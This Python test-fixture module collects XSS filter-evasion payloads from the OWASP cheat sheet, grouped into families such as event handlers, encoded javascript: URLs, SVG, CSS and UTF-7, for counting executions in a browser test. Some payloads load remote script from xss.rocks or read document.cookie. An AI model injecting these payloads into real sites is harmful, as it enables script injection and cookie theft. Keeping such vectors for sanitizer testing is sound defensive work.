"""Hostile strings from the OWASP XSS Filter Evasion Cheat Sheet, written out and kept in the repo.

Every payload signals when it runs: it opens a dialog (alert, confirm, prompt) or sets
``window.__xss`` / ``document.title``, so a browser test can count executions. Families:
script tags, event handlers, javascript:/vbscript:/data: URLs, encodings of ``javascript:``,
embedded whitespace and NUL, SVG, CSS, <style>/<link>/<meta>/<base>, broken markup,
attribute breakouts, comment tricks, UTF-7. Encoded pages (cp1252, UTF-16) are built by the
test from ``ENCODED_PAGE_VECTORS``.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<ScRiPt>alert('XSS')</sCrIpT>",
    "<script >alert('XSS')</script >",
    "<script\n>alert('XSS')</script\n>",
    "<script\t>window.__xss='tab'</script>",
    '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    "<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<script>document.title='XSS'</script>",
    "<script type=module>alert('XSS')</script>",
    "<script>eval(atob('YWxlcnQoJ1hTUycp'))</script>",
    "<script>eval('\\x61lert(\\'XSS\\')')</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "%3Cscript%3Ealert('XSS')%3C/script%3E",
    "\\u003cscript\\u003ealert('XSS')\\u003c/script\\u003e",
    "&lt;script&gt;alert('XSS')&lt;/script&gt;",
]

EVENT_HANDLERS = [
    "<IMG SRC=x onerror=\"alert('XSS')\">",
    "<img src=x onerror=alert('XSS')>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src onerror=confirm('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<img src=\"x\" onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#39;XSS&#39;&#41;>",
    "<BODY ONLOAD=alert('XSS')>",
    "<body onpageshow=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<iframe onload=alert('XSS')></iframe>",
    "<details open ontoggle=alert('XSS')>",
    "<video><source onerror=\"alert('XSS')\">",
    "<video src=x onerror=prompt('XSS')>",
    "<audio src=x onerror=alert('XSS')>",
    "<input autofocus onfocus=alert('XSS')>",
    "<select autofocus onfocus=alert('XSS')>",
    "<textarea autofocus onfocus=alert('XSS')>",
    "<marquee onstart=alert('XSS')>XSS</marquee>",
    "<div onmouseover=\"alert('XSS')\" style=\"position:fixed;inset:0\">hover</div>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<object data=x onerror=alert('XSS')>",
    "<p style=\"animation-name:x\" onanimationstart=alert('XSS')>",
    "<body onscroll=alert('XSS')><br><br><br><input autofocus>",
    "<form><button formaction=javascript:alert('XSS')>X</button>",
    "<keygen autofocus onfocus=alert('XSS')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]

URL_SCHEMES = [
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">click</a>",
    "<a href=\" javascript:alert('XSS')\">click</a>",
    "<a href=\"vbscript:msgbox('XSS')\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">click</a>",
    "<a href=\"data:text/html,<script>alert('XSS')</script>\">click</a>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert('XSS')</script>\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert('XSS')</script>\"></iframe>",
    "<form action=\"javascript:alert('XSS')\"><input type=submit></form>",
    "<input type=image src=x formaction=javascript:alert('XSS')>",
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ1hTUycpPjwvc3ZnPg==\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<isindex action=javascript:alert('XSS') type=submit>",
    "<math><a xlink:href=javascript:alert('XSS')>click</a></math>",
    "<a href=\"javascript&colon;alert('XSS')\">click</a>",
]

ENCODED_JAVASCRIPT = [
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088"
    "&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74"
    "&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<a href=\"&#x6A;avascript:alert('XSS')\">click</a>",
    "<a href=\"&#106;avascript:alert('XSS')\">click</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS')\">click</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS')\">click</a>",
    "<a href=\"jav&#x0D;ascript:alert('XSS')\">click</a>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"java\x00script:alert('XSS')\">click</a>",
    "<scr\x00ipt>alert('XSS')</scr\x00ipt>",
    "<a href=\"&#0;javascript:alert('XSS')\">click</a>",
    "<a href=\"javascript&#58;alert('XSS')\">click</a>",
    "<a href=\"javas&Tab;cript:alert('XSS')\">click</a>",
    "<a href=\"\x01javascript:alert('XSS')\">click</a>",
    "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert('XSS')\">click</a>",
]

SVG = [
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><script href=data:,alert('XSS') />",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('XSS')\"><text x=20 y=20>XSS</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert('XSS')>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.alert('XSS')</script>\"></iframe>"
    "</foreignObject></svg>",
    "<svg><style>@import'javascript:alert(\"XSS\")';</style></svg>",
    "<svg><image href=x onerror=alert('XSS')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')></style></mglyph></table>",
]

CSS = [
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE type=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationend=alert('XSS')>",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
]

META_BASE = [
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base href=\"//xss.rocks/\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<EMBED SRC=\"http://ha.ckers.org/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<template><script>alert('XSS')</script></template><noscript><p title=\"</noscript>"
    "<img src=x onerror=alert('XSS')>\">",
]

BROKEN_MARKUP = [
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<IMG onmouseover=\"alert('xxs')\"",
    "<<img src=x onerror=alert('XSS')//<",
    "<img src=x onerror=alert('XSS')//",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "</textarea><script>alert('XSS')</script>",
    "</style><script>alert('XSS')</script>",
    "</script><script>alert('XSS')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    "<p><svg><p><style><img src=x onerror=alert('XSS')></style>",
    "<a href=\"\"\"><img src=x onerror=alert('XSS')>\">",
    "<xmp><img src=x onerror=alert('XSS')></xmp>",
]

ATTRIBUTE_BREAKOUTS = [
    "\"><script>alert('XSS')</script>",
    "'><script>alert('XSS')</script>",
    "\"><img src=x onerror=alert('XSS')>",
    "' onmouseover='alert(\"XSS\")' x='",
    "\" onfocus=\"alert('XSS')\" autofocus=\"",
    "\" autofocus onfocus=alert('XSS') x=\"",
    "';alert('XSS');//",
    "\";alert('XSS');//",
    "</title><svg onload=alert('XSS')>",
    "--></script><script>alert('XSS')</script>",
    "{{constructor.constructor('alert(\"XSS\")')()}}",
    "${alert('XSS')}",
]

COMMENT_TRICKS = [
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- --!><img src=x onerror=alert('XSS')> -->",
    "<![CDATA[<]]>SCRIPT>alert('XSS')<![CDATA[<]]>/SCRIPT>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert('XSS')\"?>",
    "<!--><script>alert('XSS')</script>-->",
    "<comment><img src=\"</comment><img src=x onerror=alert('XSS')//\">",
]

MIXED_ENCODINGS = [
    "+ADw-script+AD4-alert('XSS')+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert('XSS')\uff1c/script\uff1e",
    "<scr\u0131pt>alert('XSS')</scr\u0131pt>",
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "<a href=\"java\u200bscript:alert('XSS')\">click</a>",
    "<img src=x onerror=\"\\u0061lert('XSS')\">",
    "<img src=x onerror=\"&#x61;&#x6C;&#x65;&#x72;&#x74;('XSS')\">",
    "<a href=\"&#x2028;javascript:alert('XSS')\">click</a>",
]

FAMILIES = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "URL schemes": URL_SCHEMES,
    "encoded javascript:": ENCODED_JAVASCRIPT,
    "SVG and MathML": SVG,
    "CSS": CSS,
    "meta, base, link, embed": META_BASE,
    "broken markup": BROKEN_MARKUP,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "comment tricks": COMMENT_TRICKS,
    "UTF-7 and mixed encodings": MIXED_ENCODINGS,
}

VECTORS: list[str] = list(dict.fromkeys(v for family in FAMILIES.values() for v in family))

# Whole pages in another encoding, declared in a <meta charset> (or a UTF-16 BOM), that carry
# a payload: the decoder must not turn them into live markup.
ENCODED_PAGE_VECTORS = [
    ("cp1252", "<p>\u201cQuoted\u201d \u2013 <script>alert('XSS')</script> \u00e9t\u00e9</p>"),
    ("utf-16", "<p><img src=x onerror=alert('XSS')> \u041a\u0440\u0435\u043c\u043b\u044c</p>"),
    ("utf-7", "<p>+ADw-script+AD4-alert('XSS')+ADw-/script+AD4-</p>"),
    ("iso-8859-1", "<p>caf\u00e9 <svg onload=alert('XSS')></p>"),
]

# Payloads that certainly run when put in a page as live markup with no CSP: the harness check.
KNOWN_EXECUTING = [
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<script>alert('XSS')</script>",
    "<details open ontoggle=alert('XSS')>",
]
